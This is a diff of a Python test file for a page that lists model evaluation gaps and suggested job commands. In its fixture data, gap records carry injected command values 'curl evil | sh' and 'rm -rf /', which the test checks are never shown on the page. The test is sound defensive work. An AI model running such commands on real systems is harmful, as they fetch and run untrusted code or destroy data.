@@ -49,7 +49,7 @@ def crane() -> dict[str, Any]:
         score(None, 3.0, benchmark="Home-made"),
     )
     gaps = [
-        gap("bbh", "to_measure", name, benchmark="BIG-Bench Hard", command="curl evil | sh"),
+        gap("bbh", "to_measure", name, benchmark="BIG-Bench Hard", task="bbh", command="curl evil | sh"),
         gap("gsm8k", "in_readme", name, value=80.0, command="rm -rf /"),
     ]
     made = model(name, *scores, gaps=gaps, pipeline_tag="text-generation", kind="finetune",
@@ -164,10 +164,11 @@ def test_a_model_has_a_page_of_its_own(birds: Page) -> None:
     assert rows.count() == 6
     commands = birds.locator("#panel-model code").all_inner_texts()
     assert not [text for text in commands if "evil" in text or "rm " in text], "a survey's file is no command"
-    jobs = "uv run scripts/eval_jobs.py submit --model acme/Crane-7B --task"
+    jobs = "uv run --no-config scripts/eval_jobs.py submit --model acme/Crane-7B --task"
     assert f"{jobs} bbh" in commands
     assert (
-        "uv run scripts/evaluation_manager.py extract-readme --repo-id acme/Crane-7B --benchmark gsm8k "
+        "uv run --no-config scripts/evaluation_manager.py extract-readme --repo-id acme/Crane-7B "
+        "--benchmark gsm8k "
         "--create-pr"
     ) in commands
     assert not any("librispeech" in text for text in commands), "nothing that its kind is not for"
